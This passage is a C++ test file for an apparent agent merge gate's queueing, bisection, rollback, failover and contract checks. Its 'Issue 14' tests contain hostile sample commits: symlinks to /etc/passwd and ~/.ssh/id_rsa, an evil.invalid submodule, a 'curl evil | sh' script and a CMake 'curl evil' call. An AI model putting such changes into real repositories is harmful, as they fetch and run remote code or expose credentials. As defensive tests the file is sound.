#include "gate/gate_fixture.hpp"

#include <agentcore/contract/ceiling.hpp>

#include <doctest/doctest.h>

#include <fstream>

using namespace agentcore;
using namespace agentcore::test;

namespace {
std::map<std::string, gate::verdict_kind> by_id(const std::vector<gate::change_verdict>& vs) {
  std::map<std::string, gate::verdict_kind> out;
  for (const auto& v : vs) out[v.change_id] = v.kind;
  return out;
}
void submit_ok(gate::merge_gate& g, gate::change c) {
  auto v = g.submit(std::move(c));
  REQUIRE_MESSAGE(v.has_value(), v.error().message());
  REQUIRE_MESSAGE(v->kind == gate::verdict_kind::queued, v->detail);
}
}  // namespace

TEST_CASE("gate.serial_lands_good_changes_and_rejects_a_failing_one") {
  gate_fixture fx;
  event_bus bus;
  std::vector<std::string> moves;
  auto sub = bus.subscribe<gate::branch_moved>([&](const gate::branch_moved& m) { moves.push_back(m.changes.at(0)); });
  auto g = fx.open_gate({.mode = gate::policy::serial, .events = &bus});
  auto base = fx.main_tip();
  submit_ok(*g, fx.make_change("a", false, base));
  submit_ok(*g, fx.make_change("bad", true, base));
  submit_ok(*g, fx.make_change("c", false, base));
  CHECK(g->queued().value() == 3);
  auto vs = g->run_until_empty().value();
  auto v = by_id(vs);
  CHECK(v["a"] == gate::verdict_kind::merged);
  CHECK(v["bad"] == gate::verdict_kind::deep_checks_failed);
  CHECK(v["c"] == gate::verdict_kind::merged);
  CHECK(fx.main_has("changes/a.txt"));
  CHECK(fx.main_has("changes/c.txt"));
  CHECK_FALSE(fx.main_has("POISON"));
  CHECK(moves == std::vector<std::string>{"a", "c"});
  auto stored = g->verdict("bad").value();
  REQUIRE(stored);
  CHECK(stored->kind == gate::verdict_kind::deep_checks_failed);
  CHECK(stored->detail.find("test ! -e POISON") != std::string::npos);
  auto merged = g->verdict("a").value();
  REQUIRE(merged->merged_as);
  CHECK(fx.repo.is_ancestor(*merged->merged_as, fx.main_tip()).value());
  CHECK(fx.git("fsck --strict").exit == 0);
}

TEST_CASE("gate.batch_bisects_to_the_culprit_and_lands_the_rest") {
  gate_fixture fx;
  event_bus bus;
  std::vector<std::string> steps;
  auto sub = bus.subscribe<gate::gate_step>([&](const gate::gate_step& s) { steps.push_back(s.step); });
  auto g = fx.open_gate({.mode = gate::policy::batch, .batch_size = 8, .events = &bus});
  auto base = fx.main_tip();
  for (std::string id : {"b1", "b2", "b3", "b4", "b5"}) submit_ok(*g, fx.make_change(id, id == "b3", base));
  auto v = by_id(g->run_until_empty().value());
  CHECK(v.size() == 5);
  for (std::string id : {"b1", "b2", "b4", "b5"}) {
    CAPTURE(id);
    CHECK(v[id] == gate::verdict_kind::merged);
    CHECK(fx.main_has("changes/" + id + ".txt"));
  }
  CHECK(v["b3"] == gate::verdict_kind::deep_checks_failed);
  CHECK_FALSE(fx.main_has("POISON"));
  CHECK(g->queued().value() == 0);
  // Every step was on the bus: the failed batch, its bisection, the landings.
  auto count = [&](const char* name) { return std::count(steps.begin(), steps.end(), name); };
  CHECK(count("contract_checked") == 5);
  CHECK(count("bisect") >= 1);
  CHECK(count("deep_checks") >= 3);
  CHECK(count("landing") >= 2);
}

TEST_CASE("gate.optimistic_reverts_the_culprit") {
  gate_fixture fx;
  event_bus bus;
  std::vector<gate::change_verdict> seen;
  auto sub = bus.subscribe<gate::gate_event>([&](const gate::gate_event& e) { seen.push_back(e.verdict); });
  auto g = fx.open_gate({.mode = gate::policy::optimistic, .optimistic_every = 4, .events = &bus});
  auto base = fx.main_tip();
  for (std::string id : {"o1", "o2", "o3", "o4"}) submit_ok(*g, fx.make_change(id, id == "o2", base));
  g->run_until_empty().value();
  // All four landed on the fast checks alone; the deep check after the fourth
  // failed, bisection found o2, and o2 was reverted.
  auto o2 = g->verdict("o2").value();
  REQUIRE(o2);
  CHECK(o2->kind == gate::verdict_kind::reverted);
  CHECK_FALSE(fx.main_has("POISON"));
  CHECK_FALSE(fx.main_has("changes/o2.txt"));
  for (std::string id : {"o1", "o3", "o4"}) {
    CAPTURE(id);
    CHECK(g->verdict(id).value()->kind == gate::verdict_kind::merged);
    CHECK(fx.main_has("changes/" + id + ".txt"));
  }
  CHECK(fx.repo.commit_message(fx.main_tip()).value().starts_with("Revert "));
  bool announced = false;
  for (const auto& v : seen) announced = announced || (v.change_id == "o2" && v.kind == gate::verdict_kind::reverted);
  CHECK(announced);
}

TEST_CASE("gate.per_change_rejections_are_values_and_the_queue_goes_on") {
  gate_fixture fx;
  auto g = fx.open_gate();
  auto base = fx.main_tip();

  auto forbidden = fx.make_change("forbidden", false, base);
  forbidden.contract.forbidden_paths = {"changes/**"};
  auto v1 = g->submit(forbidden).value();
  CHECK(v1.kind == gate::verdict_kind::contract_violated);
  CHECK(v1.detail.find("changes/forbidden.txt") != std::string::npos);
  CHECK(g->submit(forbidden).value().kind == gate::verdict_kind::contract_violated);  // idempotent

  auto lint = fx.make_change("lint", false, base);
  lint.checks = {"grep -q nothing-like-this changes/lint.txt"};
  auto v2 = g->submit(lint).value();
  CHECK(v2.kind == gate::verdict_kind::checks_failed);
  REQUIRE(v2.checks.size() == 1);
  CHECK(v2.checks[0].exit_code == 1);

  auto missing_tool = fx.make_change("tool", false, base);
  missing_tool.checks = {"no-such-linter-agentcore"};
  auto v3 = g->submit(missing_tool).value();
  CHECK(v3.kind == gate::verdict_kind::checks_failed);
  CHECK(v3.detail.find("not found") != std::string::npos);

  auto ghost = fx.make_change("ghost", false, base);
  ghost.head = git::oid::from_hex("0123456789abcdef0123456789abcdef01234567").value();
  auto v4 = g->submit(ghost).value();
  CHECK(v4.kind == gate::verdict_kind::error);
  CHECK(v4.detail.find("0123456789abcdef") != std::string::npos);

  auto stranger_root = fx.commit(std::nullopt, {{"other", file_spec{"x\n"}}}, "unrelated history");
  auto unrelated = fx.make_change("unrelated", false, stranger_root);
  auto v5 = g->submit(unrelated).value();
  CHECK(v5.kind == gate::verdict_kind::error);
  CHECK(v5.detail.find("not an ancestor") != std::string::npos);

  // Two changes editing the same line: the second gets a conflict with the path.
  auto e1 = fx.commit(base, {{"README", file_spec{"project one\n"}}}, "e1");
  auto e2 = fx.commit(base, {{"README", file_spec{"project two\n"}}}, "e2");
  submit_ok(*g, {.id = "edit1", .base = base, .head = e1});
  submit_ok(*g, {.id = "edit2", .base = base, .head = e2});
  submit_ok(*g, fx.make_change("fine", false, base));
  auto v = by_id(g->run_until_empty().value());
  CHECK(v["edit1"] == gate::verdict_kind::merged);
  CHECK(v["edit2"] == gate::verdict_kind::conflict);
  CHECK(v["fine"] == gate::verdict_kind::merged);
  CHECK(g->verdict("edit2").value()->paths == std::vector<std::string>{"README"});
}

TEST_CASE("gate.rollback_reverts_through_the_queue") {
  gate_fixture fx;
  auto g = fx.open_gate();
  submit_ok(*g, fx.make_change("keep"));
  submit_ok(*g, fx.make_change("oops"));
  g->run_until_empty().value();
  REQUIRE(fx.main_has("changes/oops.txt"));
  auto merged = g->verdict("oops").value()->merged_as.value();
  auto rb = g->rollback(merged, "oops broke production").value();
  CHECK(rb.kind == gate::verdict_kind::queued);
  auto v = g->run_until_empty().value();
  REQUIRE(v.size() == 1);
  CHECK(v[0].kind == gate::verdict_kind::merged);
  CHECK_FALSE(fx.main_has("changes/oops.txt"));
  CHECK(fx.main_has("changes/keep.txt"));
}

TEST_CASE("gate.priority_lands_first") {
  gate_fixture fx;
  auto g = fx.open_gate({.mode = gate::policy::batch, .batch_size = 2});
  auto base = fx.main_tip();
  submit_ok(*g, fx.make_change("low1", false, base, 0));
  submit_ok(*g, fx.make_change("low2", false, base, 0));
  submit_ok(*g, fx.make_change("urgent", false, base, 10));
  auto first = g->run_once().value();
  REQUIRE_FALSE(first.empty());
  // The first batch starts with the urgent change, never behind the low ones.
  CHECK(first[0].change_id == "urgent");
  g->run_until_empty().value();
  CHECK(g->verdict("low2").value()->kind == gate::verdict_kind::merged);
}

TEST_CASE("gate.verdicts_reach_the_board") {
  gate_fixture fx;
  board::task_board tasks(*fx.store);
  REQUIRE(tasks.propose({.id = task_id{"t1"}, .title = "one"}).has_value());
  auto lease = fx.store->grant(std::chrono::seconds(60)).value();
  REQUIRE(tasks.claim(worker_id{"w"}, lease).value());
  REQUIRE(tasks.submit(task_id{"t1"}, worker_id{"w"}).has_value());
  auto g = fx.open_gate({.board = &tasks});
  auto c = fx.make_change("t1-1");
  c.task = task_id{"t1"};
  submit_ok(*g, c);
  g->run_until_empty().value();
  auto t = tasks.get(task_id{"t1"}).value().value();
  CHECK(t.state == board::task_state::merged);
  CHECK(t.result.as_object().at("verdict").as_string() == "merged");
}

TEST_CASE("gate.one_runner_per_queue") {
  gate_fixture fx;
  auto clk = std::make_shared<virtual_clock>();
  fx.store = store::memory_store::create({.clock = clk});
  auto first = fx.open_gate({.leader_ttl = std::chrono::seconds(5), .instance = "first"});
  auto second = fx.open_gate({.leader_ttl = std::chrono::seconds(5), .instance = "second"});
  submit_ok(*first, fx.make_change("x"));
  REQUIRE(first->run_until_empty().has_value());  // first leads
  submit_ok(*second, fx.make_change("y"));        // anyone may submit
  auto refused = second->run_until_empty();
  REQUIRE_FALSE(refused.has_value());
  CHECK(refused.error() == error::in_use);
  CHECK(refused.error().message().find("'first'") != std::string::npos);
  // The first gate stops (as if it died): once its lease runs out, the second takes over.
  clk->advance(std::chrono::seconds(6));
  auto took = second->run_until_empty();
  REQUIRE_MESSAGE(took.has_value(), took.error().message());
  CHECK(second->verdict("y").value()->kind == gate::verdict_kind::merged);
}

TEST_CASE("gate.a_board_update_a_crash_missed_is_redone_by_the_next_leader") {
  gate_fixture fx;
  board::task_board tasks(*fx.store);
  REQUIRE(tasks.propose({.id = task_id{"t9"}, .title = "nine"}).has_value());
  auto lease = fx.store->grant(std::chrono::seconds(600)).value();
  REQUIRE(tasks.claim(worker_id{"w"}, lease).value());
  REQUIRE(tasks.submit(task_id{"t9"}, worker_id{"w"}).has_value());
  // The leader that merged t9 died before telling the board: its verdict and
  // the pending note are in the store, the task is still submitted.
  gate::change_verdict v{"t9-1", gate::verdict_kind::merged, "landed"};
  json::object pending{{"task", "t9"}, {"verdict", json::value_from(v)}};
  REQUIRE(fx.store->commit(store::txn().put("gate/main/verdict/t9-1", to_json_string(json::value_from(v)))
                                .put("gate/main/board_pending/t9-1", to_json_string(pending)))
              .has_value());
  auto g = fx.open_gate({.board = &tasks, .instance = "next"});
  REQUIRE(g->run_until_empty().has_value());  // takes the queue: redoes the board update
  CHECK(tasks.get(task_id{"t9"}).value()->state == board::task_state::merged);
  CHECK(fx.store->range("gate/main/board_pending/").value().kvs.empty());
}

// A leader in another clone died after recording a landing and before its
// merge commit reached the shared repository: the commit is nowhere here. The
// next leader must see "not landed" (the branch's history is all here), drop
// the record and go on, not stop on "object not found" (cli.faults, ASan CI).
TEST_CASE("gate.a_landing_whose_commit_never_arrived_is_dropped_by_the_next_leader") {
  gate_fixture fx;
  auto base = fx.main_tip();
  const std::string never_pushed = "b66de304b70bcd2ef7244cf4d0d1f46fa27d230f";
  json::object landing{{"from", base.hex()}, {"to", never_pushed}, {"changes", json::array{}}, {"optimistic", false}};
  REQUIRE(fx.store->commit(store::txn().put("gate/main/landing", to_json_string(landing))).has_value());
  CHECK_FALSE(fx.repo.is_ancestor(git::oid::from_hex(never_pushed).value(), base).value());
  auto g = fx.open_gate({.instance = "next"});
  submit_ok(*g, fx.make_change("after", false, base));
  auto done = g->run_until_empty();
  REQUIRE_MESSAGE(done.has_value(), done.error().message());
  CHECK(by_id(*done)["after"] == gate::verdict_kind::merged);
  CHECK(fx.main_has("changes/after.txt"));
  CHECK_FALSE(fx.store->get("gate/main/landing").value());
}

// A new leader's recovery that fails is tried again before the queue runs: a
// landing left unfinished must never be run past.
TEST_CASE("gate.a_failed_recovery_is_retried_before_the_queue_runs") {
  gate_fixture fx;
  auto base = fx.main_tip();
  REQUIRE(fx.store->commit(store::txn().put("gate/main/landing", "not json")).has_value());
  auto g = fx.open_gate({.instance = "next"});
  submit_ok(*g, fx.make_change("held", false, base));
  auto first = g->run_once();
  REQUIRE_FALSE(first.has_value());
  CHECK(first.error().message().find("landing record") != std::string::npos);
  auto second = g->run_once();  // still the leader: the record is read again, not skipped
  REQUIRE_FALSE(second.has_value());
  CHECK(second.error().message().find("landing record") != std::string::npos);
  CHECK_FALSE(fx.main_has("changes/held.txt"));
}

TEST_CASE("gate.a_corrupt_object_fails_that_change_alone") {
  gate_fixture fx;
  auto g = fx.open_gate();
  auto base = fx.main_tip();
  auto bad = fx.make_change("corrupt", false, base);
  // Damage the change's commit object on disk (loose objects are read-only).
  auto hex = bad.head.hex();
  auto obj = fx.dir.path() / ".git" / "objects" / hex.substr(0, 2) / hex.substr(2);
  REQUIRE(std::filesystem::exists(obj));
  std::filesystem::remove(obj);
  {
    std::ofstream f(obj, std::ios::binary);
    f << "this is not a zlib stream";
  }
  auto v = g->submit(bad).value();
  CHECK(v.kind == gate::verdict_kind::error);
  CHECK(v.detail.find(hex) != std::string::npos);
  submit_ok(*g, fx.make_change("healthy", false, base));
  auto done = by_id(g->run_until_empty().value());
  CHECK(done["healthy"] == gate::verdict_kind::merged);
  CHECK(g->verdict("corrupt").value()->kind == gate::verdict_kind::error);
}

TEST_CASE("gate.batch_wait_gathers_changes_submitted_close_together") {
  gate_fixture fx;
  event_bus bus;
  std::vector<gate::branch_moved> moves;
  auto sub = bus.subscribe<gate::branch_moved>([&](const gate::branch_moved& m) { moves.push_back(m); });
  auto g = fx.open_gate({.mode = gate::policy::batch, .batch_size = 4, .batch_wait = std::chrono::milliseconds(300),
                         .events = &bus});
  auto base = fx.main_tip();
  submit_ok(*g, fx.make_change("w1", false, base));
  CHECK(g->run_once().value().empty());  // alone and young: it waits for company
  submit_ok(*g, fx.make_change("w2", false, base));
  CHECK(g->run_once().value().empty());
  auto t0 = std::chrono::steady_clock::now();
  auto v = by_id(g->run_until_empty().value());  // lands both once the oldest has waited
  CHECK(std::chrono::steady_clock::now() - t0 < std::chrono::seconds(5));
  CHECK(v["w1"] == gate::verdict_kind::merged);
  CHECK(v["w2"] == gate::verdict_kind::merged);
  REQUIRE(moves.size() == 1);  // one batch, one move of main
  CHECK(moves[0].changes.size() == 2);
  // A full batch does not wait.
  auto base2 = fx.main_tip();
  for (std::string id : {"f1", "f2", "f3", "f4"}) submit_ok(*g, fx.make_change(id, false, base2));
  CHECK(g->run_once().value().size() == 4);
}

// Workers in one repository, the gate in another, code through a shared bare
// repository: the change travels by its ref, the branch moves there first.
TEST_CASE("gate.shared_repository_carries_changes_and_the_branch") {
  gate_fixture worker_side;  // the worker's repository (and the store both sides share)
  temp_dir shared_dir("shared"), gate_dir("gate-repo"), gate_slots("gate-slots");
  auto url = shared_dir.path().string();
  (void)git::repository::init(shared_dir.path(), true).value();
  REQUIRE(worker_side.repo.push(url, {"refs/heads/main:refs/heads/main"}));
  auto gate_repo = git::repository::init(gate_dir.path(), false).value();
  REQUIRE(gate_repo.fetch(url, {"+refs/heads/main:refs/heads/main"}));
  REQUIRE(test::sh("git -C '" + gate_dir.path().string() + "' symbolic-ref HEAD refs/heads/main").exit == 0);
  auto gate_pool = git::worktree_pool::open(gate_dir.path(), {.root = gate_slots.path(), .slots = 2}).value();
  auto leader = gate::merge_gate::open(gate_dir.path(), *worker_side.store, *gate_pool,
                                       {.deep_checks = {"test ! -e POISON"}, .remote = url})
                    .value();
  auto submitter = worker_side.open_gate({.remote = url});

  auto a = worker_side.make_change("a");
  auto b = worker_side.make_change("b", /*poison=*/true);
  for (const auto* c : {&a, &b}) {  // the submitting gate publishes each change to the shared repository
    CHECK(submitter->submit(*c).value().kind == gate::verdict_kind::queued);
    auto shared = git::repository::open(shared_dir.path()).value();
    CHECK(shared.ref_target("refs/agentcore/changes/" + c->id).value() == c->head);
  }
  auto verdicts = leader->run_until_empty().value();
  REQUIRE(verdicts.size() == 2);
  CHECK(verdicts[0].kind == gate::verdict_kind::merged);
  CHECK(verdicts[1].kind == gate::verdict_kind::deep_checks_failed);
  // The shared branch has the landing; the gate's own branch agrees.
  auto shared = git::repository::open(shared_dir.path()).value();
  auto tip = shared.ref_target("refs/heads/main").value().value();
  CHECK(tip == *verdicts[0].merged_as);
  CHECK(gate_repo.ref_target("refs/heads/main").value().value() == tip);
  // Decided changes' refs are gone from the shared repository.
  CHECK_FALSE(shared.ref_target("refs/agentcore/changes/a").value().has_value());
  CHECK_FALSE(shared.ref_target("refs/agentcore/changes/b").value().has_value());

  // Someone moves the shared branch (another gate, a person): the gate starts
  // from there at its next step and never pushes over it.
  REQUIRE(worker_side.repo.fetch(url, {"+refs/heads/main:refs/heads/main"}));
  auto hand = worker_side.commit(tip, {{"HAND.txt", test::file_spec{"by hand\n"}}}, "by hand");
  REQUIRE(worker_side.repo.advance("refs/heads/main", tip, hand, "hand").value().advanced);
  REQUIRE(worker_side.repo.push(url, {"refs/heads/main:refs/heads/main"}));
  auto c = worker_side.make_change("c");
  REQUIRE(submitter->submit(c).value().kind == gate::verdict_kind::queued);
  auto more = leader->run_until_empty().value();
  REQUIRE(more.size() == 1);
  CHECK(more[0].kind == gate::verdict_kind::merged);
  auto landed = shared.ref_target("refs/heads/main").value().value();
  CHECK(shared.is_ancestor(hand, landed).value());
  CHECK(landed == *more[0].merged_as);
}

// --- Issue 14: changes that carry danger past the path check, through a real
// repository and the real gate. Each attack is a commit an agent could make;
// each must be refused with its reason in the verdict, and never land.

namespace {

struct attack_fixture : gate_fixture {
  std::unique_ptr<gate::merge_gate> gate = open_gate();

  /// A change of `fs` on main's tip under contract `c`.
  gate::change change(const std::string& id, const files& fs, contract::task_contract c = {}) {
    auto base = main_tip();
    return gate::change{.id = id, .base = base, .head = commit(base, fs, "attack " + id), .contract = std::move(c)};
  }
  /// Lands `fs` on main directly, as the host would.
  void host_lands(const files& fs) {
    auto c = commit(main_tip(), fs, "host");
    REQUIRE(repo.advance("refs/heads/main", main_tip(), c, "host").value().advanced);
  }
  /// Submits and expects a contract violation of `rule` whose detail says `says`.
  void refused(gate::change c, std::string_view rule, std::string_view says) {
    CAPTURE(c.id);
    auto v = gate->submit(std::move(c));
    REQUIRE_MESSAGE(v.has_value(), v.error().message());
    REQUIRE_MESSAGE(v->kind == gate::verdict_kind::contract_violated, v->detail);
    bool found = false;
    for (const auto& x : v->contract.violations)
      if (x.rule == rule) {
        found = true;
        CHECK_MESSAGE(x.detail.find(says) != std::string::npos, x.detail);
      }
    CHECK_MESSAGE(found, v->detail);
    CHECK(v->detail.find(std::string(rule)) != std::string::npos);  // the summary a worker's model reads
  }
  void lands(gate::change c) {
    CAPTURE(c.id);
    auto v = gate->submit(std::move(c));
    REQUIRE_MESSAGE(v.has_value(), v.error().message());
    REQUIRE_MESSAGE(v->kind == gate::verdict_kind::queued, v->detail);
  }
};

git::oid some_commit_id(char c) { return git::oid::from_hex(std::string(40, c)).value(); }

}  // namespace

TEST_CASE("gate.contract.links_out_of_the_repository_are_refused") {
  attack_fixture fx;
  contract::task_contract links{.links = contract::link_policy::inside};
  auto link = [](std::string target) { return file_spec{std::move(target), git::file_mode::link}; };
  fx.refused(fx.change("passwd", {{"src/passwd", link("/etc/passwd")}}, links), "link_target", "'/etc/passwd'");
  fx.refused(fx.change("outside", {{"src/up", link("../../outside")}}, links), "link_target", "leaves the repository");
  fx.refused(fx.change("hooks", {{"docs/hooks", link("../.git/hooks")}}, links), "link_target", ".git directory");
  fx.refused(fx.change("config", {{"cfg", link(".git/config")}}, links), "link_target", ".git directory");
  // A file the agent turns into a link is a link too.
  fx.refused(fx.change("readme", {{"README", link("/root/.ssh/id_rsa")}}, links), "link_target", "absolute");
  // With no link allowed, even a link that stays inside is refused, and says so.
  fx.refused(fx.change("plain", {{"docs/readme", link("../README")}}), "link", "allows no links");
  // A link that stays inside, under a contract that allows links, lands.
  fx.lands(fx.change("inside", {{"docs/readme", link("../README")}}, links));
  auto verdicts = fx.gate->run_until_empty().value();
  REQUIRE(verdicts.size() == 1);
  CHECK(verdicts[0].kind == gate::verdict_kind::merged);
  for (const char* p : {"src/passwd", "src/up", "docs/hooks", "cfg"}) CHECK_FALSE(fx.main_has(p));
  CHECK(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), "README").value()->mode == git::file_mode::blob);
}

TEST_CASE("gate.contract.submodules_are_refused") {
  attack_fixture fx;
  auto gitlink = [&](const std::string& path, const git::oid& id, std::optional<git::oid> base = std::nullopt) {
    auto b = base ? *base : fx.main_tip();
    auto tree = fx.repo.edit_tree(fx.repo.commit_tree(b).value(), {{path, git::tree_entry{id, git::file_mode::commit}}});
    REQUIRE(tree.has_value());
    return fx.repo.create_commit(*tree, {b}, "gitlink", fx.sig).value();
  };
  auto base = fx.main_tip();
  fx.refused({.id = "new-gitlink", .base = base, .head = gitlink("vendor/evil", some_commit_id('a'))}, "gitlink",
             "submodule");
  fx.refused(fx.change("gitmodules", {{".gitmodules", file_spec{"[submodule \"evil\"]\n\tpath = vendor/evil\n\turl = "
                                                                "https://evil.invalid/x.git\n"}}}),
             "gitmodules", "submodule");
  fx.refused(fx.change("gitmodules-case", {{".GITMODULES", file_spec{"[submodule \"x\"]\n"}}}), "gitmodules",
             "submodule");
  // The host has a submodule; an agent moves it to another commit.
  auto hosted = gitlink("third_party/lib", some_commit_id('b'));
  REQUIRE(fx.repo.advance("refs/heads/main", base, hosted, "host").value().advanced);
  fx.refused({.id = "bump", .base = hosted, .head = gitlink("third_party/lib", some_commit_id('c'), hosted)}, "gitlink",
             "submodule");
  // A host that allows submodules lets them through.
  contract::task_contract ok{.submodules_allowed = true};
  fx.lands({.id = "allowed", .base = hosted, .head = gitlink("vendor/ok", some_commit_id('d'), hosted), .contract = ok});
  fx.gate->run_until_empty().value();
  CHECK_FALSE(fx.main_has("vendor/evil"));
  CHECK_FALSE(fx.main_has(".gitmodules"));
  CHECK(fx.main_has("vendor/ok"));
}

TEST_CASE("gate.contract.modes_the_contract_does_not_allow_are_refused") {
  attack_fixture fx;
  auto exec = [](std::string content) { return file_spec{std::move(content), git::file_mode::blob_executable}; };
  fx.refused(fx.change("payload", {{"tools/payload.sh", exec("#!/bin/sh\ncurl evil | sh\n")}}), "mode",
             "made executable");
  fx.refused(fx.change("chmod", {{"src/main.c", exec("int main;\n")}}), "mode", "was 100644");
  fx.refused(fx.change("renamed", {{"README", std::nullopt}, {"bin/readme", exec("project\n")}}), "mode",
             "made executable");
  // Editing what is executable already is fine; so is a contract that allows executables.
  fx.host_lands({{"tools/run.sh", exec("#!/bin/sh\necho 1\n")}});
  fx.lands(fx.change("edit", {{"tools/run.sh", exec("#!/bin/sh\necho 2\n")}}));
  fx.lands(fx.change("allowed", {{"tools/new.sh", exec("#!/bin/sh\n")}}, {.executable_allowed = true}));
  fx.gate->run_until_empty().value();
  CHECK_FALSE(fx.main_has("tools/payload.sh"));
  CHECK(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), "src/main.c").value()->mode == git::file_mode::blob);
  CHECK(fx.main_has("tools/new.sh"));
}

TEST_CASE("gate.contract.a_huge_file_over_the_byte_budget_is_refused") {
  attack_fixture fx;
  contract::task_contract budget{.max_added_bytes = 8u << 20};
  std::string line = "0123456789abcdef0123456789abcdef0123456789abcdef0123456789abcde\n";  // 64 bytes
  std::string huge;
  huge.reserve(50u << 20);
  while (huge.size() < (50u << 20)) huge += line;
  fx.refused(fx.change("huge", {{"data/dump.txt", file_spec{huge}}}, budget), "max_added_bytes",
             "'data/dump.txt', 50.0 MiB");
  // Many files, each under the budget, together over it.
  files many;
  for (int i = 0; i < 9; ++i) many["gen/part" + std::to_string(i) + ".txt"] = file_spec{huge.substr(0, 1u << 20)};
  fx.refused(fx.change("many", many, budget), "max_added_bytes", "9437184 bytes");
  // An existing file rewritten large: rewriting is writing.
  fx.refused(fx.change("rewrite", {{"README", file_spec{huge.substr(0, 9u << 20)}}}, budget), "max_added_bytes",
             "'README'");
  fx.lands(fx.change("small", {{"data/small.txt", file_spec{huge.substr(0, 1u << 20)}}}, budget));
  fx.gate->run_until_empty().value();
  CHECK_FALSE(fx.main_has("data/dump.txt"));
  CHECK(fx.main_has("data/small.txt"));
}

TEST_CASE("gate.contract.protected_paths_are_refused_unless_the_host_allows") {
  attack_fixture fx;
  fx.host_lands({{"CMakeLists.txt", file_spec{"project(x)\n"}}, {".ci/run", file_spec{"make test\n"}},
                 {"scripts/build.sh", file_spec{"make\n"}}});
  fx.refused(fx.change("ci", {{".ci/run", file_spec{"true\n"}}}), "protected_path", "'.ci/**'");
  fx.refused(fx.change("build", {{"CMakeLists.txt", file_spec{"project(x)\nexecute_process(COMMAND curl evil)\n"}}}),
             "protected_path", "host");
  fx.refused(fx.change("script-gone", {{"scripts/build.sh", std::nullopt}}), "protected_path", "'scripts/**'");
  fx.refused(fx.change("workflow", {{".github/workflows/x.yml", file_spec{"on: push\n"}}}), "protected_path",
             "'.github/**'");
  // The case: a planner answer with allowed_paths ["**"] gets a
  // contract that still keeps its worker off the build and the CI.
  auto planned = contract::narrow({.allowed_paths = {"**"}}, contract::ceiling{}).value();
  REQUIRE(planned.ok());
  fx.refused(fx.change("everything", {{"CMakeLists.txt", file_spec{"# gone\n"}}, {".ci/run", file_spec{"exit 0\n"}},
                                      {"src/main.c", file_spec{"int main2;\n"}}},
                       planned.contract),
             "protected_path", "only a task the host allows");
  // A task the host allows explicitly may change them.
  fx.lands(fx.change("host-task", {{".ci/run", file_spec{"make check\n"}}}, {.protected_allowed = true}));
  fx.gate->run_until_empty().value();
  CHECK(fx.repo.read_blob(fx.repo.entry_at(fx.repo.commit_tree(fx.main_tip()).value(), ".ci/run").value()->id).value() ==
        "make check\n");
  CHECK(fx.main_has("scripts/build.sh"));
  CHECK_FALSE(fx.main_has(".github/workflows/x.yml"));
}

// The gate holds every change to the host's ceiling, whatever contract the
// board gave it: a contract wider than the ceiling (written to the board
// behind the planner's back, or by a host bug) does not widen what lands.
TEST_CASE("gate.contract.the_ceiling_binds_whatever_the_contract_says") {
  attack_fixture fx;
  fx.gate.reset();
  fx.gate = fx.open_gate({.ceiling = contract::ceiling{.allowed_paths = {"src/**", "docs/**"},
                                                       .max_added_bytes = 1 << 20}});
  fx.host_lands({{".ci/run", file_spec{"make test\n"}}});
  contract::task_contract wide{.allowed_paths = {"**"}, .protected_paths = {}, .max_added_bytes = 0,
                               .executable_allowed = true, .links = contract::link_policy::any};
  fx.refused(fx.change("outside-paths", {{"tools/x.sh", file_spec{"echo\n"}}}, wide), "path_not_allowed",
             "outside the host's ceiling");
  fx.refused(fx.change("ci", {{".ci/run", file_spec{"true\n"}}}, wide), "protected_path",
             "outside the host's ceiling");
  fx.refused(fx.change("big", {{"src/big.txt", file_spec{std::string(3u << 20, 'x')}}}, wide), "max_added_bytes",
             "outside the host's ceiling");
  fx.refused(fx.change("link", {{"src/passwd", file_spec{"/etc/passwd", git::file_mode::link}}}, wide), "link_target",
             "outside the host's ceiling");
  // Within the ceiling, the wide contract's change lands; a host grant opens
  // the ceiling's protected paths (here inside its allowed ones).
  fx.lands(fx.change("fine", {{"src/ok.c", file_spec{"int ok;\n"}}}, wide));
  fx.refused(fx.change("attrs", {{"src/.gitattributes", file_spec{"*.c filter=evil\n"}}}, wide), "protected_path",
             "outside the host's ceiling");
  auto granted = wide;
  granted.protected_allowed = true;
  fx.lands(fx.change("granted", {{"docs/.gitattributes", file_spec{"*.md text\n"}}}, granted));
  fx.gate->run_until_empty().value();
  CHECK(fx.main_has("src/ok.c"));
  CHECK(fx.main_has("docs/.gitattributes"));
  CHECK_FALSE(fx.main_has("src/.gitattributes"));
  for (const char* p : {"tools/x.sh", "src/big.txt", "src/passwd"}) CHECK_FALSE(fx.main_has(p));
}

// A merge taken back out (a rollback through the queue, or the optimistic
// policy's auto-revert) moves its task to `reverted`, with the revert commit
// and the reason, from where it can be requeued; a task that stayed `merged`
// would make the planner drop its re-proposal and the work would vanish.
TEST_CASE("gate.reverts_reach_the_board") {
  gate_fixture fx;
  board::task_board tasks(*fx.store);
  auto lease = fx.store->grant(std::chrono::seconds(60)).value();
  auto submit_task = [&](gate::merge_gate& g, const std::string& id, bool poison, std::optional<git::oid> base) {
    REQUIRE(tasks.propose({.id = task_id{id}, .title = "task " + id}).has_value());
    auto t = tasks.claim(worker_id{"w"}, lease).value();
    REQUIRE(t);
    REQUIRE(t->id == task_id{id});
    REQUIRE(tasks.submit(task_id{id}, worker_id{"w"}).has_value());
    auto c = fx.make_change(id + "-1", poison, base);
    c.task = task_id{id};
    submit_ok(g, c);
  };
  SUBCASE("a rollback") {
    auto g = fx.open_gate({.board = &tasks});
    submit_task(*g, "keep", false, std::nullopt);
    g->run_until_empty().value();
    submit_task(*g, "oops", false, std::nullopt);
    g->run_until_empty().value();
    auto t = tasks.get(task_id{"oops"}).value().value();
    REQUIRE(t.state == board::task_state::merged);
    auto merged = git::oid::from_hex(t.result.as_object().at("merged_as").as_string()).value();
    REQUIRE(g->rollback(merged, "oops broke production").value().kind == gate::verdict_kind::queued);
    g->run_until_empty().value();
    CHECK_FALSE(fx.main_has("changes/oops.txt"));
    t = tasks.get(task_id{"oops"}).value().value();
    CHECK(t.state == board::task_state::reverted);
    auto v = gate::verdict_from_json(t.result).value();
    CHECK(v.kind == gate::verdict_kind::reverted);
    CHECK(v.merged_as == fx.main_tip());  // the revert commit
    CHECK(v.detail.find("oops broke production") != std::string::npos);
    CHECK(v.detail.find(merged.hex()) != std::string::npos);
    CHECK(tasks.get(task_id{"keep"}).value().value().state == board::task_state::merged);
    // From reverted it can be requeued, and only from there (a merged task cannot).
    CHECK(tasks.requeue(task_id{"keep"}).error() == error::illegal_transition);
    CHECK(tasks.requeue(task_id{"oops"}, "needed after all").value().state == board::task_state::ready);
  }
